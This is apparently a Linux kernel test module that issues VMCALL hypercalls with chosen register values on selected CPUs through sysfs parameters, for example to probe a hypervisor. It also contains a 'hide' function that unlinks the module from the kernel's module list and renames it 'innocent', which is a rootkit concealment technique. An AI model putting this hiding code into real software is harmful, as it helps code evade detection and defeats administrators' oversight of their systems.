// SPDX-License-Identifier: GPL-2.0-only
/*
 * Executes VMCALL with given RAX and RBX on a given CPU, from sysfs: write rax and rbx, and how many
 * times, then the CPU's number to call, or to call_nowait if it may never come back; read answer, and
 * fault, which tells whether the CPU raised an exception instead. With now=1 it does so as it is
 * loaded, once, and is gone. Writing 1 to hide takes it off the kernel's list under another name; 0
 * undoes that.
 */
#include <linux/module.h>
#include <linux/rculist.h>
#include <linux/smp.h>
#include <asm/asm.h>

static ulong rax, rbx, answer;
static uint times = 1;
static bool fault, now;
module_param(rax, ulong, 0600);
module_param(rbx, ulong, 0600);
module_param(times, uint, 0600);
module_param(answer, ulong, 0400);
module_param(fault, bool, 0400);
module_param(now, bool, 0400);

static __always_inline void vmcall(void)
{
	ulong a = rax;
	bool f = true;

	asm volatile("1: vmcall\n"
		     "movb $0, %0\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : "+q" (f), "+a" (a) : "b" (rbx) : "cc", "memory");
	answer = a;
	fault = f;
}

static void execute(void *unused)
{
	uint i;

	for (i = 0; i < times; i++)
		vmcall();
}

static int call_on(const char *value, bool wait)
{
	int cpu, error = kstrtoint(value, 0, &cpu);

	return error ?: smp_call_function_single(cpu, execute, NULL, wait);
}

static int call(const char *value, const struct kernel_param *kp)
{
	return call_on(value, true);
}

static int call_nowait(const char *value, const struct kernel_param *kp)
{
	return call_on(value, false);
}

static const struct kernel_param_ops call_ops = { .set = call };
static const struct kernel_param_ops call_nowait_ops = { .set = call_nowait };
module_param_cb(call, &call_ops, NULL, 0200);
module_param_cb(call_nowait, &call_nowait_ops, NULL, 0200);

static int hide(const char *value, const struct kernel_param *kp)
{
	static struct list_head *before;

	if (!before == (*value == '0'))
		return -EINVAL;
	if (before) {
		list_add_rcu(&THIS_MODULE->list, before);
		strscpy(THIS_MODULE->name, KBUILD_MODNAME, MODULE_NAME_LEN);
		before = NULL;
	} else {
		before = THIS_MODULE->list.prev;
		list_del_rcu(&THIS_MODULE->list);
		strscpy(THIS_MODULE->name, "innocent", MODULE_NAME_LEN);
	}
	return 0;
}

static const struct kernel_param_ops hide_ops = { .set = hide };
module_param_cb(hide, &hide_ops, NULL, 0200);

static int __init hypercall_init(void)
{
	if (now)
		vmcall();
	return now ? -ECANCELED : 0;
}

static void __exit hypercall_exit(void)
{
}

module_init(hypercall_init);
module_exit(hypercall_exit);
MODULE_DESCRIPTION("Test: a hypercall");
MODULE_LICENSE("GPL");
